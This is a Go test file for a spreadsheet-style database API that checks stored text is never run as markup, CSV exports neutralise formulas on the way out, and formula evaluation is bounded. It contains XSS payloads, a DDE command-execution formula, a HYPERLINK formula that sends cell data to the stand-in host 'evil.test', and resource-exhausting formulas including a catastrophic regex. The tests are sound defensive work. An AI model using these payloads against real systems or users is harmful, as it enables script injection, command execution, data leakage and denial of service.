package httpapi

import (
	"encoding/csv"
	"net/url"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// TestAttack51StoredTextStaysText puts markup and scripts into every text that is stored, and reads it back: JSON stays
// JSON, told to browsers as such, and nothing is changed or run.
func TestAttack51StoredTextStaysText(t *testing.T) {
	p := newPlace(t, shared)
	for _, text := range []string{`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `javascript:alert(1)`, `</script><script>`, `<!--`, `]]>`, "\u2028alert(1)", `{{constructor.constructor('x')()}}`, `&lt;b&gt;`} {
		id := p.must(t, 201, "owner", "POST", p.rows(""), map[string]any{"fields": map[string]any{"Name": text, "Secret": text}, "reason": text}).text(t, "id")
		for _, path := range []string{p.rows("/" + id), p.rows("?Name.eq=" + url.QueryEscape(text)), p.rows("/" + id + "/history"), "/api/v1/audit-logs?workspace_id=" + p.workspace + "&resource_id=" + id} {
			a := p.must(t, 200, "owner", "GET", path, nil, "Accept", "text/html")
			require.Equal(t, "application/json", a.header.Get("Content-Type"), path)
			require.Equal(t, "nosniff", a.header.Get("X-Content-Type-Options"), path)
			require.Contains(t, a.header.Get("Content-Security-Policy"), "default-src 'none'", path)
		}
		require.Equal(t, text, p.must(t, 200, "viewer", "GET", p.rows("/"+id), nil).text(t, "fields.Name"))
		refusal := p.do(t, "viewer", "GET", p.rows("?"+url.QueryEscape(text)+".eq=1"), nil, "Accept", "text/html")
		require.Equal(t, 400, refusal.status)
		require.Equal(t, "application/problem+json", refusal.header.Get("Content-Type"))
	}
}

// TestAttack52CellsAreNoFormulas exports texts, titles and choices that a spreadsheet would run, by every way out: none of
// them begins as a formula does, and importing gives back what there was.
func TestAttack52CellsAreNoFormulas(t *testing.T) {
	p := newPlace(t, shared)
	formulas := []string{`=1+1`, `+1`, `-1`, `@x`, "\tx", "\t=1", `=cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.test?"&A1)`, `"=1"`, `'=1`, `''=1`, ` =1`, `+`, `=`, `-`, `@`}
	column := p.must(t, 201, "owner", "POST", "/api/v1/tables/"+p.table+"/columns", `{"name":"=1+2","type":"text"}`).text(t, "id")
	for i, text := range formulas {
		p.must(t, 201, "owner", "POST", p.rows(""), map[string]any{"fields": map[string]any{"Name": text, "=1+2": text, "Left": -i - 1}})
	}
	view := p.must(t, 201, "owner", "POST", "/api/v1/views", map[string]any{"base_id": p.base, "name": "=V", "query": map[string]any{"source": map[string]string{"table": p.table}}}).text(t, "id")
	files := map[string]string{
		"table": p.must(t, 200, "viewer", "GET", "/api/v1/tables/"+p.table+"/export.csv?sort=-Left&fields=Name,Left,"+column, nil).body,
		"query": p.must(t, 200, "viewer", "POST", p.at("/query/export.csv"), `{"source":{"table":"`+p.table+`"},"columns":["Name","Left",{"name":"=1+2","expr":{"k":"col","id":"`+column+`"}}],"sorts":["-Left"]}`).body,
		"view":  p.must(t, 200, "viewer", "POST", p.at("/query/export.csv"), `{"source":{"table":"`+view+`"},"columns":["Name","Left",{"name":"=1+2","expr":{"k":"col","id":"=1+2"}}],"sorts":["-Left"]}`).body,
	}
	for name, file := range files {
		t.Run(name, func(t *testing.T) {
			cells, err := csv.NewReader(strings.NewReader(file)).ReadAll()
			require.NoError(t, err)
			require.Len(t, cells, len(formulas)+1)
			for i, row := range cells {
				for j, cell := range row {
					if j == 1 && i > 0 {
						require.Equal(t, strconv.Itoa(-i), cell, "numbers are numbers")
						continue
					}
					require.NotRegexp(t, "^[=+\\-@\t\r\n]", cell)
				}
			}
		})
	}
	t.Run("import restores", func(t *testing.T) {
		p.must(t, 200, "owner", "POST", p.rows("/bulk"), `{"op":"delete","all_rows":true}`)
		p.must(t, 200, "editor", "POST", "/api/v1/tables/"+p.table+"/import", files["table"], csvType...)
		require.Equal(t, formulas, names(t, p.must(t, 200, "viewer", "GET", p.rows("?sort=-Left"), nil)))
		made := p.must(t, 201, "owner", "POST", "/api/v1/bases/"+p.base+"/import?name=Again", files["table"], csvType...).text(t, "table_id")
		again := p.must(t, 200, "viewer", "GET", "/api/v1/tables/"+made+"/rows?sort=-Left", nil)
		require.Equal(t, formulas, names(t, again))
		require.Equal(t, formulas[0], fieldsOf(t, again)[0]["=1+2"], "titles, too")
	})
}

// TestAttack53FormulasAreBounded sends the formulas that grow without bound, by every way that a formula can come: each ends
// in a refusal or in an answer within a second and without taking memory.
func TestAttack53FormulasAreBounded(t *testing.T) {
	p := newPlace(t, shared)
	p.fill()
	state := p.stored(t)
	for _, formula := range []string{
		`LEN(SUBSTITUTE(REPT("a", 900000), "a", REPT("b", 20000))) > 1`, `LEN(REPT(REPT(REPT("abc", 100000), 100000), 100000)) > 1`, `LEN(REPT("a", 1000000000)) > 1`, `REPT(Name, 999999999) = Name`,
		`POWER(10, 1000000) > 1`, `FACT(1000000) > 1`, `LEN(` + strings.Repeat(`CONCATENATE(`, 60) + `REPT("a", 50000)` + strings.Repeat(`, REPT("a", 50000))`, 60) + `) > 1`,
		strings.Repeat("NOT(", 3000) + "TRUE()" + strings.Repeat(")", 3000), strings.Repeat("1 + ", 20_000) + "1 > 0", `REGEX_MATCH(REPT("a", 60000), "(a*)*b")`, `REGEX_MATCH(Name, "` + strings.Repeat("(", 500) + `x` + strings.Repeat(")", 500) + `")`,
	} {
		for _, a := range []attack{
			{method: "POST", path: p.at("/query"), body: map[string]any{"source": map[string]string{"table": p.table}, "filters": formula}},
			{method: "POST", path: p.at("/query"), body: map[string]any{"source": map[string]string{"table": p.table}, "filters": map[string]string{"formula": formula, "syntax": "expr"}}},
			{method: "POST", path: p.at("/query"), body: map[string]any{"source": map[string]string{"table": p.table}, "computed_columns": []any{map[string]string{"name": "c", "expr": formula}}}},
			{method: "GET", path: p.rows("?filter=" + url.QueryEscape(formula[:min(len(formula), 5000)]))},
			{method: "POST", path: p.rows("/bulk"), body: map[string]any{"op": "delete", "filter": formula, "dry_run": true}},
		} {
			var before, after runtime.MemStats
			quickly(t, 10*time.Second, formula[:min(len(formula), 80)], func() {
				runtime.GC()
				runtime.ReadMemStats(&before)
				got := p.do(t, "editor", a.method, a.path, a.body)
				runtime.ReadMemStats(&after)
				require.Less(t, got.status, 500, "%.200s: %s", formula, got.body)
			})
			require.Less(t, int64(after.HeapAlloc)-int64(before.HeapAlloc), int64(64<<20), "%.80s", formula)
			state.unchanged(t, formula[:min(len(formula), 80)])
		}
	}
}
